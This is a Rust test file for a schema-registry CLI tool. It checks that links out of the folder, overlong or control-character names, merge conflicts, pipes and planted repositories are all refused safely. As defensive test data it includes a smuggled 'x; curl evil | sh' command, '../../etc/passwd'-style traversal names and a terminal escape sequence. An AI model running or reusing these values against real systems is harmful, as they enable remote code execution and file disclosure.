//! Folders that an attacker, a merge or an accident made: each command reports the problem, and leaves nothing half
//! written.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::Stdio;

use crate::pull::tree;
use crate::scratch::{ORDER, ORDER_1_0, ORDER_1_1, Scratch};

#[test]
fn links_out_of_the_folder_or_around_it_are_errors_and_are_not_read() {
    let secret = Scratch::empty();
    secret.write("event.toml", "hunter2 = 1");
    secret.write("1.2.json", ORDER_1_1);
    let scratch = Scratch::locked();
    symlink(secret.path("event.toml"), scratch.path("schemas/event.toml")).unwrap();
    symlink(secret.path("1.2.json"), scratch.path(&format!("{ORDER}/1.2.json"))).unwrap();
    symlink("..", scratch.path("schemas/shop/loop")).unwrap();
    for command in [&["check"][..], &["lock"], &["generate"]] {
        let run = scratch.run(command);
        assert_ne!(run.code, 0);
        let said = run.err.matches("error[link-out-of-folder]").count();
        assert_eq!((said, run.err.matches("error[").count()), (3, 3), "{command:?}: {}", run.err);
        assert!(run.err.contains("a folder that contains it"), "{}", run.err);
        assert!(!run.err.contains("hunter2"), "{}", run.err);
    }
}

#[test]
fn names_too_long_for_a_file_system_are_refused_with_the_reason() {
    let scratch = Scratch::locked();
    let long = "x".repeat(300);
    for args in [
        &["new", &*long][..],
        &["new", "order.sent", "--registry", &long],
        &["import", "order.json", "--name", &long],
        &["import", "order.json", "--registry", &long],
    ] {
        scratch.write("order.json", ORDER_1_0);
        let run = scratch.run(args);
        run.says(2, &["error[bad-event-name]", "300 bytes", "at most 200"]);
        assert!(run.err.len() < 600, "{}", run.err);
    }
    let folder = "y".repeat(230);
    scratch.write(&format!("schemas/shop/{folder}/1.0.json"), ORDER_1_0);
    let run = scratch.run(&["check"]);
    run.says(2, &["error[bad-event-name]", "230 bytes", "shorter name"]);
    assert!(!run.err.contains("rename it to `yyy"), "{}", run.err);
}

#[test]
fn names_with_control_characters_or_separators_are_refused() {
    let scratch = Scratch::empty();
    scratch.write("order.json", ORDER_1_0.replace("OrderPlaced", "x"));
    for name in ["a/b", "../../x", "a\\b", "a\nb", "a\u{1b}[31mb"] {
        let run = scratch.run(&["import", "order.json", "--registry", "shop", "--name", name]);
        run.says(2, &["error[bad-event-name]", "it contains"]);
        assert!(!run.err.contains('\u{1b}'), "{:?}", run.err);
        assert!(!scratch.path("schemas").exists());
    }
    scratch.write("in/order placed.json", ORDER_1_0);
    let run = scratch.run(&["import", "in", "--registry", "shop"]);
    run.says(0, &[]);
    assert!(scratch.path("schemas/shop/order.placed/1.0.json").exists(), "{}", run.out);
    scratch.run(&["lock"]).says(0, &[]);
}

#[test]
fn merge_conflict_in_the_lock_stops_every_command_that_reads_it() {
    let scratch = Scratch::locked();
    let lock = scratch.read("schemas/schemas.lock");
    let (a, b, c) = ("<".repeat(7), "=".repeat(7), ">".repeat(7));
    scratch.write("schemas/schemas.lock", format!("{a} HEAD\n{lock}{b}\n{lock}{c} topic\n"));
    scratch.write("order.sent.json", ORDER_1_0);
    let before = tree(&scratch.path("schemas"));
    for command in [
        &["check"][..],
        &["lock"],
        &["lock", "--check"],
        &["list"],
        &["generate"],
        &["new-version", "order.placed"],
        &["unlock", "order.placed@1.1"],
        &["import", "order.sent.json", "--registry", "shop"],
        &["push"],
        &["pull", "--registry", "shop"],
    ] {
        let run = scratch.run(command);
        assert_ne!(run.code, 0, "{command:?}");
        assert_eq!(run.err.matches("error[merge-conflict]").count(), 1, "{command:?}: {}", run.err);
        assert_eq!(tree(&scratch.path("schemas")), before, "{command:?}");
    }
}

#[test]
fn folder_that_cannot_be_written_is_an_error_and_unchanged() {
    let scratch = Scratch::locked();
    scratch.write("order.sent.json", ORDER_1_0);
    let set = |mode: u32| {
        for dir in ["schemas", "schemas/shop", ORDER] {
            let mode = std::fs::Permissions::from_mode(mode);
            std::fs::set_permissions(scratch.path(dir), mode).unwrap();
        }
    };
    let before = tree(&scratch.path("schemas"));
    set(0o555);
    // root can write everywhere
    let refused = std::fs::write(scratch.path("schemas/x"), "").is_err();
    if refused {
        for command in [
            &["new", "order.x"][..],
            &["new-version", "order.placed"],
            &["import", "order.sent.json"],
            &["unlock", "order.placed@1.1"],
        ] {
            scratch.run(command).says(2, &["error[unwritable]"]);
        }
        scratch.run(&["lock", "--check"]).says(0, &[]);
        scratch.run(&["check"]).says(0, &[]);
    }
    set(0o755);
    let _ = std::fs::remove_file(scratch.path("schemas/x"));
    assert_eq!(tree(&scratch.path("schemas")), before);
}

#[test]
fn topology_in_an_unreadable_folder_is_an_error() {
    let scratch = Scratch::empty();
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../example-service/topology.json");
    let topology = std::fs::read(example).unwrap();
    scratch.write("services/shop/topology.json", &topology);
    scratch.write("services/secret/topology.json", &topology);
    let set = |mode: u32| {
        let mode = std::fs::Permissions::from_mode(mode);
        std::fs::set_permissions(scratch.path("services/secret"), mode).unwrap();
    };
    set(0o000);
    // root can read everything
    let refused = std::fs::read_dir(scratch.path("services/secret")).is_err();
    let run = scratch.run(&["template"]);
    let named = scratch.run(&["template", "--topology", "services/shop/topology.json"]);
    set(0o755);
    if refused {
        run.says(2, &["error[unreadable]: failed to read the folder: ", "services/secret\n"]);
        assert_eq!(run.out, "");
    } else {
        run.says(2, &["2 topologies for one output"]);
    }
    named.says(0, &[]);
    assert!(named.out.contains("AWS::Events::Rule"), "{}", named.out);
}

/// A file in the place of a folder fails as a full disk does, even for root.
#[test]
fn folders_for_a_file_that_cannot_be_written_are_removed() {
    let scratch = Scratch::locked();
    scratch.write("in/a.one/1.0.json", ORDER_1_0.replace("OrderPlaced", "a"));
    scratch.write("in/b.two/1.0.json", ORDER_1_0.replace("OrderPlaced", "b"));
    scratch.write("schemas/_block", "");
    let before = tree(&scratch.path("schemas"));
    // the folder of the second event is a file
    scratch.write("schemas/shop/b.two", "");
    let run = scratch.run(&["import", "in"]);
    run.says(2, &["error[unwritable]", "nothing was imported"]);
    assert!(!scratch.path("schemas/shop/a.one").exists());
    scratch.remove("schemas/shop/b.two");
    assert_eq!(tree(&scratch.path("schemas")), before);
}

#[test]
fn temporary_files_of_killed_writers_are_skipped() {
    let scratch = Scratch::locked();
    for name in ["1.2.json.part77", "1.2.json.part77-3"] {
        scratch.write(&format!("{ORDER}/{name}"), "{ half");
    }
    scratch.write("schemas/.pull/shop/x/1.0.json", "{ half");
    let run = scratch.run(&["check"]);
    assert_eq!((run.code, &*run.err), (0, ""));
    scratch.write(&format!("{ORDER}/1.2.json.parts"), "");
    scratch.run(&["check"]).says(2, &["error[bad-file-name]", "1.2.json.parts"]);
}

#[test]
fn commands_side_by_side_lose_no_version() {
    let scratch = Scratch::locked();
    let spawn = |args: &[&str]| {
        let mut command = scratch.command(args);
        command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap()
    };
    for round in 0..6 {
        let names: Vec<String> = (0..4).map(|n| format!("round{round}.event{n}")).collect();
        let mut running: Vec<_> = names.iter().map(|name| spawn(&["new", name])).collect();
        running.extend((0..3).map(|_| spawn(&["lock"])));
        for mut child in running {
            child.wait().unwrap();
        }
        scratch.run(&["lock"]).says(0, &[]);
        scratch.run(&["check"]).says(0, &[]);
    }
    let lock = scratch.read("schemas/schemas.lock");
    assert_eq!(lock.matches("[[schema]]").count(), 2 + 6 * 4, "{lock}");
}

#[test]
fn thousand_events_and_windows_line_ends_are_read_in_every_command() {
    let scratch = Scratch::empty();
    for n in 0..1_000 {
        let text = ORDER_1_0.replace("OrderPlaced", &format!("Event{n}"));
        scratch.write(&format!("schemas/shop/event.n{n}/1.0.json"), text);
    }
    scratch.run(&["lock"]).says(0, &[]);
    let lock = scratch.read("schemas/schemas.lock").replace('\n', "\r\n");
    scratch.write("schemas/schemas.lock", lock);
    let one = "schemas/shop/event.n7/1.0.json";
    scratch.write(one, scratch.read(one).replace('\n', "\r\n"));
    scratch.run(&["check"]).says(0, &[]);
    scratch.run(&["lock", "--check"]).says(0, &[]);
    let list = scratch.run(&["list", "--format", "json"]).json();
    assert_eq!(list["versions"].as_array().unwrap().len(), 1_000);
}

/// Runs `cargo event ARGS`, and kills it if it does not end.
fn bounded(scratch: &Scratch, args: &[&str]) -> crate::scratch::Run {
    let begun = std::time::Instant::now();
    let mut command = scratch.command(args);
    command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    while child.try_wait().unwrap().is_none() {
        if begun.elapsed().as_secs() > 30 {
            child.kill().unwrap();
            panic!("{args:?} waits for ever");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let output = child.wait_with_output().unwrap();
    crate::scratch::Run {
        code: output.status.code().unwrap(),
        out: String::from_utf8(output.stdout).unwrap(),
        err: String::from_utf8(output.stderr).unwrap(),
    }
}

#[test]
fn lock_behind_a_link_out_of_the_folder_is_not_read() {
    let secret = Scratch::empty();
    secret.write("secret.toml", "password = \"hunter2");
    for target in [secret.path("secret.toml"), "/dev/zero".into()] {
        let scratch = Scratch::order();
        symlink(target, scratch.path("schemas/schemas.lock")).unwrap();
        scratch.write("order.sent.json", ORDER_1_0);
        for command in [
            &["check"][..],
            &["lock"],
            &["list"],
            &["unlock", "order.placed@1.0"],
            &["new-version", "order.placed"],
            &["import", "order.sent.json"],
            &["pull", "--registry", "shop"],
        ] {
            let run = bounded(&scratch, command);
            assert_eq!(run.code, 2, "{command:?}: {}", run.err);
            let said = run.err.matches("error[").count();
            assert!(run.err.contains("error[link-out-of-folder]"), "{command:?}: {}", run.err);
            assert_eq!(said, 1, "one mistake is one error: {command:?}: {}", run.err);
            assert!(!run.err.contains("basic string"), "{}", run.err);
        }
    }
}

#[test]
fn pipes_and_folders_in_place_of_files_are_errors() {
    let pipe = |path: std::path::PathBuf| {
        assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
    };
    for file in ["schemas/schemas.lock", "schemas/event.toml", "schemas/shop/order.placed/1.2.json"]
    {
        let scratch = Scratch::order();
        pipe(scratch.path(file));
        let run = bounded(&scratch, &["check"]);
        assert_eq!(run.code, 2);
        assert!(run.err.contains("not a regular file"), "{file}: {}", run.err);
        assert!(!run.err.contains("lock-missing") || !file.ends_with("lock"), "{}", run.err);
    }
    for file in ["schemas/schemas.lock", "schemas/event.toml"] {
        let scratch = Scratch::locked();
        let _ = std::fs::remove_file(scratch.path(file));
        std::fs::create_dir(scratch.path(file)).unwrap();
        let run = scratch.run(&["check"]);
        run.says(2, &["this is a folder: expected a file"]);
        assert_eq!(run.err.matches("error[unreadable]").count(), 1, "{}", run.err);
        assert!(!run.err.contains("bad-event-name"), "{}", run.err);
    }
}

#[test]
fn hostile_names_in_the_lock_never_reach_a_suggested_command() {
    let scratch = Scratch::locked();
    let lock = scratch.read("schemas/schemas.lock");
    for (registry, event) in [("../../etc", "passwd"), ("shop", "x; curl evil | sh"), ("", "x")] {
        let entry = format!(
            "\n[[schema]]\nregistry = \"{registry}\"\ntype = \"{event}\"\nversion = \"1.0\"\nsha256 = \"{}\"\n",
            "0".repeat(64)
        );
        scratch.write("schemas/schemas.lock", format!("{lock}{entry}"));
        let run = scratch.run(&["check"]);
        run.says(2, &["error[bad-lock]", "cannot be the folder of"]);
        assert!(!run.err.contains("git checkout"), "{}", run.err);
    }
}

#[test]
fn folders_that_differ_only_in_case_are_an_error() {
    let scratch = Scratch::locked();
    scratch.run(&["new", "Order.Placed"]).says(2, &["error[bad-event-name]", "ignore case"]);
    scratch.write("schemas/shop/Order.Placed/1.0.json", ORDER_1_0);
    let text = "`Order.Placed` and `order.placed` are the same folder";
    scratch.run(&["check"]).says(2, &["error[bad-event-name]", text]);
    scratch.run(&["lock"]).says(2, &[text]);
    let scratch = Scratch::locked();
    scratch.write("schemas/Shop/order.sent/1.0.json", ORDER_1_0);
    scratch.run(&["check"]).says(2, &["the registries `Shop` and `shop` are the same folder"]);
}

#[test]
fn help_never_suggests_to_overwrite_a_version() {
    let scratch = Scratch::locked();
    for file in ["v1.0.json", "1.0.json~", "1.0.JSON", "1.0.yaml"] {
        scratch.write(&format!("{ORDER}/{file}"), ORDER_1_0);
        let run = scratch.run(&["check"]);
        run.says(2, &["error[bad-file-name]", "`1.0.json` already exists"]);
        assert!(!run.err.contains("rename it to `"), "{}", run.err);
        scratch.remove(&format!("{ORDER}/{file}"));
    }
    scratch.write(&format!("{ORDER}/2.0.yaml"), "type: object");
    scratch.run(&["check"]).says(2, &["convert it to JSON, as `2.0.json`"]);
    scratch.remove(&format!("{ORDER}/2.0.yaml"));
    for (folder, name) in [("con", "event.con"), ("a.", "a"), ("caf\u{e9}", "caf")] {
        scratch.write(&format!("schemas/shop/{folder}/1.0.json"), ORDER_1_0);
        scratch.run(&["check"]).says(2, &[&format!("rename it to `{name}`")]);
        std::fs::remove_dir_all(scratch.path(&format!("schemas/shop/{folder}"))).unwrap();
    }
}

#[test]
fn misspelled_names_of_the_lock_and_the_settings_are_errors() {
    for (file, own) in [
        ("schema.lock", "schemas.lock"),
        ("schemas.Lock", "schemas.lock"),
        ("event.tml", "event.toml"),
        ("Event.toml", "event.toml"),
    ] {
        let scratch = Scratch::locked();
        scratch.write(&format!("schemas/{file}"), "");
        scratch
            .run(&["check"])
            .says(2, &["error[bad-file-name]", &format!("rename it to `schemas/{own}`")]);
    }
    let scratch = Scratch::locked();
    for file in ["README.md", "Makefile", "schema.json.md"] {
        scratch.write(&format!("schemas/{file}"), "");
    }
    scratch.run(&["check"]).says(0, &[]);
}

/// Following the help for both edits saves each under another name.
#[test]
fn help_for_several_edited_versions_saves_each_as_another_version() {
    let scratch = Scratch::locked();
    // an unreadable file also takes its version
    scratch.write(&format!("{ORDER}/1.2.json"), b"\xff");
    for version in ["1.0", "1.1"] {
        let file = format!("{ORDER}/{version}.json");
        scratch.write(&file, scratch.read(&file).replace("OrderPlaced", "Edited"));
    }
    let run = scratch.run(&["check"]);
    let to = |version: &str| format!("`mv {ORDER}/{version}.json {ORDER}/");
    run.says(2, &[&format!("{}1.3.json`", to("1.0")), &format!("{}1.4.json`", to("1.1"))]);
}

#[test]
fn merge_conflict_in_the_settings_is_reported_as_one() {
    let scratch = Scratch::locked();
    let (a, b, c) = ("<".repeat(7), "=".repeat(7), ">".repeat(7));
    scratch.write(
        "schemas/event.toml",
        format!("{a} HEAD\nnumber = \"f64\"\n{b}\nnumber = \"f32\"\n{c} topic\n"),
    );
    let run = scratch.run(&["check"]);
    run.says(2, &["error[merge-conflict]", "remove the markers"]);
    assert_eq!(run.err.matches("error[").count(), 1, "{}", run.err);
}

#[test]
fn versions_that_both_branches_locked_merge_into_one_lock() {
    let scratch = Scratch::locked();
    let lock = scratch.read("schemas/schemas.lock");
    let entry = lock.rfind("\n[[schema]]").unwrap();
    scratch.write("schemas/schemas.lock", format!("{lock}{}", &lock[entry..]));
    scratch.run(&["check"]).says(0, &[]);
    scratch.run(&["lock"]).says(0, &[]);
    // the next write lists each once
    scratch.run(&["new", "order.sent"]).says(0, &[]);
    scratch.run(&["lock"]).says(0, &[]);
    assert_eq!(scratch.read("schemas/schemas.lock").matches("[[schema]]").count(), 3);
}

/// A folder that looks like a bare repository has its own configuration.
#[test]
fn repository_inside_the_schema_folder_is_not_used() {
    let scratch = Scratch::locked();
    let git = |folder: &str, args: &[&str]| {
        let mut command = std::process::Command::new("git");
        command.args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(args);
        let done = command.current_dir(scratch.path(folder)).output().unwrap();
        assert!(done.status.success(), "{done:?}");
    };
    git(".", &["init", "-q"]);
    git(".", &["add", "."]);
    git(".", &["commit", "-q", "-m", "a"]);
    scratch.run(&["unlock", "order.placed@1.1"]).says(1, &["error[version-published]"]);
    git(".", &["init", "-q", "--bare", "other"]);
    for part in ["HEAD", "config", "objects", "refs"] {
        std::fs::rename(
            scratch.path(&format!("other/{part}")),
            scratch.path(&format!("schemas/{part}")),
        )
        .unwrap();
    }
    let run = scratch.run(&["unlock", "order.placed@1.1"]);
    run.says(2, &["error[git-failed]", "failed to read the repository"]);
    scratch.run(&["check", "--against", "git:HEAD"]).says(2, &["error[git-failed]"]);
}

#[test]
fn next_command_finishes_what_a_killed_one_began() {
    let scratch = Scratch::locked();
    scratch.write("schemas/shop/order.sent/1.0.json.part12", "{ half");
    scratch.run(&["new", "order.sent"]).says(0, &[]);
    scratch.run(&["new", "order.sent"]).says(2, &["error[file-exists]"]);
    scratch.write("in/order.gone/1.0.json", ORDER_1_0.replace("OrderPlaced", "x"));
    let part = "schemas/shop/order.gone/1.0.json.part12";
    scratch.write(part, "{ half");
    let old = std::time::SystemTime::now() - std::time::Duration::from_mins(5);
    let file = std::fs::File::options().write(true).open(scratch.path(part)).unwrap();
    file.set_modified(old).unwrap();
    scratch.run(&["import", "in"]).says(0, &[]);
    assert!(!scratch.path(part).exists());
    scratch.run(&["lock"]).says(0, &[]);
}
